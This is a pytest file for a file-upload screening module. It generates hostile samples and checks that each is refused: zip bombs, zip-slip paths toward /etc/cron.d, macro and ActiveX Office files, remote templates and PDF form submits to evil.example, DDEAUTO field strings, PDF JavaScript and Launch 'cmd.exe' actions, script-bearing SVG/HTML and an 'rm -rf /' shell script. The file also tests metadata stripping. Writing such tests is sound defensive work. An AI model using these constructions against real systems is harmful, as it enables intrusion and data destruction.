"""Hostile uploads, each refused for its own reason or taken and harmless; and honest ones."""

import struct
import subprocess
import sys
import zipfile
import zlib
from base64 import a85encode
from functools import cache
from io import BytesIO

import pikepdf
import pytest
from PIL import Image

from lintel.files.content import chamber, looking
from lintel.files.content.jp2 import cleaned_jp2, look_at_jp2
from lintel.files.content.kinds import Kind, Notice, NotTaken, Why
from lintel.files.rules.reading import mark_of_telling
from lintel.files.tests import given
from lintel.files.tests.given import AUTHOR, a_jpeg, a_pdf, a_png, a_zip, an_email, an_office_file
from lintel.sharing.rules.handling import Mark

CORE = "package/2006/metadata/core-properties"
EXTERNAL = (
    '<Relationships><Relationship Id="a" Type="http://x/relationships/{kind}" '
    'Target="http://evil.example/x" TargetMode="External"/></Relationships>'
)
RELATIONS = "word/_rels/settings.xml.rels"


def _script(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def _script_on_a_page(pdf):
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x"))
    pdf.pages[0].obj["/AA"] = pikepdf.Dictionary(O=action)


def _embedded(pdf):
    pdf.attachments["a.exe"] = b"MZ"


def _submits(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example")


def _xfa(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=pikepdf.Array())


def _packed_twice(pdf):
    """The photograph as many programs keep it: each saying a list of one or more."""
    image = pdf.pages[0].Resources.XObject.A
    colours = pikepdf.Dictionary(ColorTransform=1)
    packed = zlib.compress(image.read_raw_bytes())
    pdf.pages[0].Resources.XObject.B = second = pikepdf.Stream(pdf, packed)
    second.Type, second.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    second.Width, second.Height = 64, 48
    second.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.DCTDecode])
    second.DecodeParms = pikepdf.Array([None, colours])
    image.Filter = pikepdf.Array([pikepdf.Name.DCTDecode])
    image.DecodeParms = pikepdf.Array([colours])


def _drawn(pdf, *, packed: bytes = b"/DCT", change=bytes):
    """The photograph in the drawing of the page, between BI and EI."""
    photograph = change(pdf.pages[0].Resources.XObject.A.read_raw_bytes())
    begins = b"q 64 0 0 48 0 0 cm BI /W 64 /H 48 /CS /RGB /BPC 8 /F %s ID " % packed
    pdf.pages[0].Contents = pikepdf.Stream(pdf, begins + photograph + b"\nEI Q")
    del pdf.pages[0].Resources.XObject


def _drawn_as_letters(pdf):
    _drawn(pdf, packed=b"[/A85 /DCT]", change=lambda raw: a85encode(raw) + b"~>")


def _draws_without_end(pdf):
    """Sixty drawings, each of which unpacks to 64 megabytes."""
    packed = zlib.compress(bytes(64 * 1024 * 1024), 9)
    for number in range(60):
        form = pikepdf.Stream(pdf, packed)
        form.Subtype, form.Filter = pikepdf.Name.Form, pikepdf.Name.FlateDecode
        pdf.pages[0].Resources[f"/F{number}"] = form


def _scanned(content: bytes):
    def change(pdf):
        image = pdf.pages[0].Resources.XObject.A
        image.write(content, filter=pikepdf.Name.JPXDecode)

    return change


def _rich(pdf):
    note = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia)
    )
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([note])


@cache
def _bomb(entries: int = 1, megabytes: int = 101) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as held:
        held.writestr("[Content_Types].xml", "<Types/>")
        held.writestr("word/document.xml", "<w:document/>")
        for number in range(entries):
            with held.open(f"word/media/{number}.bin", "w", force_zip64=True) as entry:
                for _ in range(megabytes):
                    entry.write(bytes(1024 * 1024))
    return made.getvalue()


@cache
def _lying_bomb() -> bytes:
    """It says in its list of contents that what it unpacks is small."""
    real = (101 * 1024 * 1024).to_bytes(4, "little")
    return _bomb().replace(real, (1000).to_bytes(4, "little"))


@cache
def _many_entries() -> bytes:
    """65,000 entries, each no more than a line in the list of contents."""
    whole = an_office_file()
    first, end = whole.find(b"PK\x01\x02"), whole.find(b"PK\x05\x06")
    line = whole[first : whole.find(b"PK\x01\x02", first + 4)]
    lines = line * 65_000
    ends = whole[end : end + 8] + struct.pack("<HHIIH", 65_000, 65_000, len(lines), first, 0)
    return whole[:first] + lines + ends


def _locked_zip() -> bytes:
    made = bytearray(an_office_file())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            made[at + offset] |= 1
            at = made.find(mark, at + 4)
    return bytes(made)


def _rels(kind: str, *changes: tuple[str, str]) -> bytes:
    said = EXTERNAL.format(kind=kind)
    for before, after in changes:
        said = said.replace(before, after)
    return an_office_file(more={RELATIONS: said})


ENTITIES = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'
FIELDS = '<x:f xmlns:x="urn:w"><x:instrText>DD</x:instrText><x:instrText>E x</x:instrText></x:f>'
SIMPLE = "<w:fldSimple z:instr='&#68;DEAUTO c:x.exe'/>"
EXTERNAL_PART = (
    '<Relationships><Relationship Id="a" Type="http://x/relationships/externalLink" '
    'Target="../odd/e.xml"/></Relationships>'
)
DDE = "<w:instrText> DD</w:instrText><w:instrText>EAUTO c:\\\\x.exe </w:instrText>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
TIFF = b"II*\0\x08\0\0\0" + bytes(64)

# What each is, the ending it comes with, how to make it, and why it is not taken.
HOSTILE = [
    ("zip bomb", "docx", _bomb, Why.BOMB),
    ("zip bomb of many", "docx", lambda: _bomb(3, 40), Why.BOMB),
    ("zip bomb that lies", "docx", _lying_bomb, Why.DAMAGED),
    ("nested zips", "docx", lambda: a_zip({"a.zip": a_zip({"b.zip": b"x"})}), Why.ARCHIVE),
    ("65,000 entries", "docx", _many_entries, Why.BOMB),
    ("zip slip", "docx", lambda: an_office_file(more={"../../etc/cron.d/x": b"x"}), Why.DAMAGED),
    ("zip slip from the root", "xlsx", lambda: an_office_file("xl", {"/etc/x": "x"}), Why.DAMAGED),
    ("zip slip of Windows", "docx", lambda: an_office_file(more={"..\\..\\x": b"x"}), Why.DAMAGED),
    ("plain archive", "zip", lambda: a_zip({"a.txt": b"x"}), Why.ARCHIVE),
    ("archive named docx", "docx", lambda: a_zip({"a.exe": b"MZ"}), Why.ARCHIVE),
    ("locked archive", "docx", _locked_zip, Why.PASSWORD),
    ("docm", "docm", lambda: an_office_file(more={"word/vbaProject.bin": b"x"}), Why.MACROS),
    ("docm as docx", "docx", lambda: an_office_file(types="<x macroEnabled.main/>"), Why.MACROS),
    ("xlsm", "xlsm", lambda: an_office_file("xl", {"xl/vbaProject.bin": b"x"}), Why.MACROS),
    (
        "Excel 4 macros",
        "xlsx",
        lambda: an_office_file("xl", {"xl/macrosheets/s.xml": "x"}),
        Why.MACROS,
    ),
    ("ActiveX", "docx", lambda: an_office_file(more={"word/activeX/a.xml": b"x"}), Why.MACROS),
    ("remote template", "docx", lambda: _rels("attachedTemplate"), Why.REMOTE),
    *(
        (f"remote template, {how}", "docx", make, Why.REMOTE)
        for how, make in {
            "prefixed": lambda: _rels("x", ("<Rel", "<p:Rel"), ("</Rel", "</p:Rel")),
            "quoted": lambda: _rels("x", ('Id="a"', 'Id="a>b"')),
            "spelled": lambda: _rels("x", ('"External"', '"&#69;xternal"')),
        }.items()
    ),
    ("relations that are no XML", "docx", lambda: _rels("x", ("ships><", "ships <")), Why.DAMAGED),
    ("remote picture", "docx", lambda: _rels("image"), Why.REMOTE),
    ("remote object", "docx", lambda: _rels("oleObject"), Why.REMOTE),
    ("DDE in Word", "docx", lambda: an_office_file(more={"word/footer1.xml": DDE}), Why.REMOTE),
    *(
        (f"DDE in Word, {how}", "docx", make, Why.REMOTE)
        for how, make in {
            "another prefix": lambda: an_office_file(more={"word/footer1.xml": FIELDS}),
            "spelled": lambda: an_office_file(more={"word/footer1.xml": SIMPLE}),
            "elsewhere": lambda: an_office_file(more={"odd/footer1.xml": FIELDS}),
            "another alphabet": lambda: an_office_file(
                more={"word/footer1.xml": FIELDS.encode("utf-16")}
            ),
        }.items()
    ),
    (
        "another workbook",
        "xlsx",
        lambda: an_office_file("xl", {"xl/_rels/workbook.xml.rels": EXTERNAL_PART}),
        Why.REMOTE,
    ),
    (
        "DDE in Excel",
        "xlsx",
        lambda: an_office_file("xl", {"xl/externalLinks/e.xml": "x"}),
        Why.REMOTE,
    ),
    (
        "data connection",
        "xlsx",
        lambda: an_office_file("xl", {"xl/connections.xml": "x"}),
        Why.REMOTE,
    ),
    (
        "object inside",
        "docx",
        lambda: an_office_file(more={"word/embeddings/o.bin": b"x"}),
        Why.INSIDE,
    ),
    ("entities", "docx", lambda: an_office_file(more={"word/styles.xml": ENTITIES}), Why.DAMAGED),
    ("half a docx", "docx", lambda: an_office_file()[:-60], Why.DAMAGED),
    ("PDF with a script", "pdf", lambda: a_pdf(_script), Why.SCRIPTS),
    ("PDF with a script on a page", "pdf", lambda: a_pdf(_script_on_a_page), Why.SCRIPTS),
    ("PDF that launches", "pdf", lambda: a_pdf(_launch), Why.SCRIPTS),
    ("PDF that submits", "pdf", lambda: a_pdf(_submits), Why.SCRIPTS),
    ("PDF with XFA", "pdf", lambda: a_pdf(_xfa), Why.SCRIPTS),
    ("PDF with a file inside", "pdf", lambda: a_pdf(_embedded), Why.INSIDE),
    ("PDF with rich media", "pdf", lambda: a_pdf(_rich), Why.INSIDE),
    ("locked PDF", "pdf", lambda: a_pdf(password="secret"), Why.PASSWORD),
    ("half a PDF", "pdf", lambda: b"%PDF-1.7\n" + bytes(300), Why.DAMAGED),
    ("PDF and zip", "pdf", lambda: a_pdf() + a_zip({"a": b"x"}), Why.TWO_KINDS),
    ("PDF and page", "pdf", lambda: b"%PDF-1.7\n<html >" + a_pdf(), Why.TWO_KINDS),
    ("SVG with a script", "svg", lambda: SVG, Why.UNKNOWN),
    ("SVG as txt", "txt", lambda: SVG, Why.UNKNOWN),
    ("HTML as JPG", "jpg", lambda: HTML, Why.UNKNOWN),
    ("HTML as text", "txt", lambda: b"\n \n" + HTML, Why.UNKNOWN),
    ("JPEG and PDF", "jpg", lambda: a_jpeg() + a_pdf(), Why.TWO_KINDS),
    ("JPEG and page", "jpg", lambda: a_jpeg() + HTML, Why.TWO_KINDS),
    ("JPEG and zip", "jpg", lambda: a_jpeg() + a_zip({"a": b"x"}), Why.TWO_KINDS),
    ("PNG and page", "png", lambda: a_png() + HTML, Why.TWO_KINDS),
    ("50,000 x 50,000 pixels", "png", lambda: a_png(width=50_000, height=50_000), Why.PIXELS),
    ("TIFF bomb", "tiff", lambda: TIFF, Why.UNKNOWN),
    ("TIFF as JPG", "jpg", lambda: TIFF, Why.UNKNOWN),
    ("half a PNG", "png", lambda: a_png()[:20], Why.DAMAGED),
    ("a JPEG of nothing", "jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(40), Why.DAMAGED),
    ("a program", "jpg", lambda: b"MZ" + bytes(200), Why.UNKNOWN),
    ("a script of the shell", "txt", lambda: b"#!/bin/sh\nrm -rf /\n", Why.UNKNOWN),
    ("old Word", "doc", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), Why.OLD_OFFICE),
    (
        "locked Word",
        "docx",
        lambda: given.an_outlook_email() + "EncryptedPackage".encode("utf-16-le"),
        Why.PASSWORD,
    ),
    ("e-mail with a program", "eml", lambda: an_email({"a.pdf": b"MZ\x90"}), Why.INSIDE),
    ("e-mail with a script", "eml", lambda: an_email({"invoice.pdf.js": b"x"}), Why.INSIDE),
    (
        "e-mail of 500 parts",
        "eml",
        lambda: an_email({f"{n}.txt": b"x" for n in range(500)}),
        Why.BOMB,
    ),
    ("no e-mail", "eml", lambda: b"Hello: there\n\nno sender", Why.UNKNOWN),
    ("empty", "pdf", lambda: b"", Why.EMPTY),
    ("controls as text", "txt", lambda: b"a\x00b\x1b[31m", Why.UNKNOWN),
    ("text named pdf", "pdf", lambda: b"plain words", Why.UNKNOWN),
]
# Taken all the same, because what is odd about them cannot do anything.
HARMLESS = [
    ("PDF named jpg", "jpg", lambda: a_pdf(), Kind.PDF),
    ("JPEG named pdf", "pdf", lambda: a_jpeg(), Kind.JPEG),
    ("JPEG with a film after it", "jpg", lambda: a_jpeg() + bytes(5000), Kind.JPEG),
    ("docx with a link", "docx", lambda: _rels("hyperlink"), Kind.WORD),
    ("PDF with a link", "pdf", lambda: a_pdf(lambda pdf: None), Kind.PDF),
    ("EICAR, for the scanner", "txt", given.eicar, Kind.TEXT),
    ("text in another alphabet", "txt", lambda: "Żółć".encode("utf-16"), Kind.TEXT),
    ("text of an old program", "txt", lambda: "caf\xe9 \x80".encode("latin-1"), Kind.TEXT),
    ("HEIC", "heic", given.a_heic, Kind.HEIC),
    ("e-mail with a photograph", "eml", lambda: an_email({"a.jpg": a_jpeg()}), Kind.EMAIL),
    ("Outlook e-mail", "msg", given.an_outlook_email, Kind.OUTLOOK),
    ("Excel", "xlsx", lambda: an_office_file("xl"), Kind.EXCEL),
]
COSTLY = {"zip bomb", "zip bomb of many", "zip bomb that lies", "65,000 entries"}


@pytest.mark.parametrize(("what", "ending", "make", "why"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_a_hostile_file_is_refused_for_its_own_reason(what, ending, make, why):
    look = chamber.look if what in COSTLY else looking.look
    with pytest.raises(NotTaken) as refused:
        look(make(), ending)
    assert refused.value.why is why


@pytest.mark.parametrize(("what", "ending", "make", "kind"), HARMLESS, ids=[h[0] for h in HARMLESS])
def test_an_odd_but_harmless_file_is_what_its_content_says(what, ending, make, kind):
    assert looking.look(make(), ending).kind is kind


MEASURED = """
import sys, time
from lintel.files.content.__main__ import main
main("look", sys.argv[1])
[most] = [line for line in open("/proc/self/status") if line.startswith("VmHWM")]
print(most, time.process_time(), file=sys.stderr)
"""
WORST = [
    ("docx", _bomb),
    ("docx", _many_entries),
    ("docx", _lying_bomb),
    ("jpg", lambda: a_jpeg() + bytes(20 * 1024 * 1024 - 2000)),
    ("pdf", lambda: a_pdf(photograph=bytes(20 * 1024 * 1024 - 5000))),
    ("pdf", lambda: a_pdf(_draws_without_end)),
]


@pytest.mark.parametrize(("ending", "make"), WORST)
def test_the_worst_cost_five_seconds_and_200_megabytes_at_most(ending, make):
    done = subprocess.run(
        [sys.executable, "-c", MEASURED, ending],
        input=make(),
        capture_output=True,
        check=True,
        cwd=chamber.HOUSE,
    )
    _, kilobytes, _, seconds = done.stderr.split()
    assert float(seconds) < 5
    assert int(kilobytes) < 200 * 1024


def test_what_breaks_the_other_process_is_refused(monkeypatch):
    monkeypatch.setattr(chamber, "LONGEST", 0.01)
    with pytest.raises(NotTaken) as refused:
        chamber.look(a_jpeg(), "jpg")
    assert refused.value.why is Why.BOMB


# --- Position and author ------------------------------------------------------------------------

PHOTOGRAPH = a_jpeg(where=True, turned=6)
SAYS = [
    ("photograph", PHOTOGRAPH, {Notice.POSITION, Notice.AUTHOR}),
    ("PNG", a_png(author=True), {Notice.AUTHOR}),
    ("PDF", a_pdf(author=True, photograph=PHOTOGRAPH), {Notice.AUTHOR, Notice.POSITION}),
    (
        "PDF with lists",
        a_pdf(_packed_twice, photograph=PHOTOGRAPH),
        {Notice.AUTHOR, Notice.POSITION},
    ),
    (
        "Word",
        an_office_file(
            more={
                "word/comments.xml": f'<w:comment w:author="{AUTHOR}" w:initials="Zq"/>',
                "word/media/image1.jpeg": PHOTOGRAPH,
            }
        ),
        {Notice.POSITION, Notice.AUTHOR},
    ),
    (
        "PDF with a photograph in its drawing",
        a_pdf(_drawn, photograph=PHOTOGRAPH),
        {Notice.AUTHOR, Notice.POSITION},
    ),
    (
        "PDF of a scan",
        a_pdf(_scanned(given.a_jp2(where=True)), photograph=PHOTOGRAPH),
        {Notice.AUTHOR, Notice.POSITION},
    ),
    (
        "PDF of a scan without boxes",
        a_pdf(_scanned(given.a_jp2(where=True, whole=False)), photograph=PHOTOGRAPH),
        set(),
    ),
    (
        "Word with another prefix",
        an_office_file(
            more={
                "word/comments.xml": f"<z:comment z:author='{AUTHOR}' z:initials = 'Zq'/>",
                "word/commentsExtended.xml": f'<c author="{AUTHOR}"/>'.encode("utf-16"),
                "package/core.psmdcp": f'<c xmlns="x/{CORE}"><z:creator>{AUTHOR}</z:creator></c>',
            }
        ),
        {Notice.AUTHOR},
    ),
    (
        "Excel with another prefix",
        an_office_file(
            "xl",
            {
                "xl/comments1.xml": f"<x:as><x:author>{AUTHOR}</x:author></x:as>",
                "xl/persons/person.xml": f"<z:person displayName='{AUTHOR}'/>",
            },
        ),
        {Notice.AUTHOR},
    ),
    (
        "Excel",
        an_office_file(
            "xl",
            {
                "xl/comments1.xml": f"<authors><author>{AUTHOR}</author></authors>",
                "xl/persons/person.xml": f'<person displayName="{AUTHOR}"/>',
            },
        ),
        {Notice.AUTHOR},
    ),
]


def _unpacked(content: bytes) -> bytes:
    try:
        return zlib.decompress(content)
    except zlib.error:
        return b""


def everything_in(content: bytes) -> bytes:
    """A content and, of a zip or a PDF, what is packed in it."""
    if zipfile.is_zipfile(BytesIO(content)):
        with zipfile.ZipFile(BytesIO(content)) as held:
            return b"".join(held.read(name) for name in held.namelist())
    if content.startswith(b"%PDF"):
        with pikepdf.open(BytesIO(content)) as pdf:
            streams = [one for one in pdf.objects if isinstance(one, pikepdf.Stream)]
            each = [one.read_raw_bytes() for one in streams]
            return content + b"".join(each) + b"".join(map(_unpacked, each))
    return content


@pytest.mark.parametrize(("what", "content", "says"), SAYS, ids=[one[0] for one in SAYS])
def test_the_copy_for_sharing_says_neither_where_nor_by_whom(what, content, says):
    found = looking.look(content, "")
    assert says <= {*found.notices}
    assert AUTHOR.encode() in everything_in(content)

    copy = looking.cleaned(content, found.kind)

    assert AUTHOR.encode() not in everything_in(copy)
    assert b"Exif\0\0II" not in everything_in(copy)
    assert looking.look(copy, "").notices == ()


def test_a_copy_of_a_photograph_has_the_same_pixels_the_same_way_up():
    copy = looking.cleaned(PHOTOGRAPH, Kind.JPEG)
    with Image.open(BytesIO(PHOTOGRAPH)) as before, Image.open(BytesIO(copy)) as after:
        assert after.getexif() == {0x0112: 6}
        assert after.tobytes() == before.tobytes()


def test_a_copy_of_a_scan_has_the_same_pixels():
    whole = given.a_jp2(where=True)
    assert look_at_jp2(whole) == {Notice.POSITION, Notice.AUTHOR}
    copy = cleaned_jp2(whole)
    with Image.open(BytesIO(whole)) as before, Image.open(BytesIO(copy)) as after:
        assert after.tobytes() == before.tobytes()
    assert cleaned_jp2(copy) == copy


CANNOT = {
    "letters in a drawing": a_pdf(_drawn_as_letters, photograph=PHOTOGRAPH),
    "half a scan": a_pdf(_scanned(given.a_jp2(where=True)[:-9]), photograph=PHOTOGRAPH),
    "a photograph with words before it": a_pdf(photograph=b"\xff\xd8 " + PHOTOGRAPH),
}


@pytest.mark.parametrize("what", CANNOT)
def test_a_pdf_that_cannot_be_cleaned_says_so_and_stays_in_the_hub(what):
    found = looking.look(CANNOT[what], "pdf")
    assert found.notices == (Notice.MAY_HOLD_POSITION,)
    assert mark_of_telling(found.kind, found.notices) is Mark.HUB_ONLY
    with pytest.raises(NotTaken):
        looking.cleaned(CANNOT[what], Kind.PDF)


def test_a_document_that_says_who_in_a_way_nobody_knows_has_no_copy():
    hidden = f"<x:as><x:author><![CDATA[{AUTHOR}]]></x:author></x:as>"
    with pytest.raises(NotTaken):
        looking.cleaned(an_office_file("xl", {"xl/comments1.xml": hidden}), Kind.EXCEL)


def test_what_cannot_be_cleaned_says_so():
    assert looking.look(given.a_heic(), "heic").notices == (Notice.MAY_HOLD_POSITION,)
    assert looking.look(an_email(), "eml").notices == (Notice.NAMES_SENDER,)
    with pytest.raises(NotTaken):
        looking.cleaned(an_email(), Kind.EMAIL)


def test_the_words_of_a_document_are_the_same_in_its_copy():
    words = '<w:t>He said the author = "Dan" and initials="D"</w:t>'
    also = "<w:t><![CDATA[<x author='Dan'>]]></w:t>"
    said = f"<w:p w:val=\"1 > 0, author='Dan'\" w:author = '{AUTHOR}'>{words}{also}</w:p>"
    note = f'<w:comment w:author="{AUTHOR}"><w:t>a displayName = "Dan"</w:t></w:comment>'
    more = {"word/document.xml": said, "word/comments.xml": note}
    copy = everything_in(looking.cleaned(an_office_file(more=more), Kind.WORD))
    assert AUTHOR.encode() not in copy
    assert words.encode() in copy
    assert also.encode() in copy
    assert b"1 > 0, author='Dan'" in copy
    assert b'a displayName = "Dan"' in copy
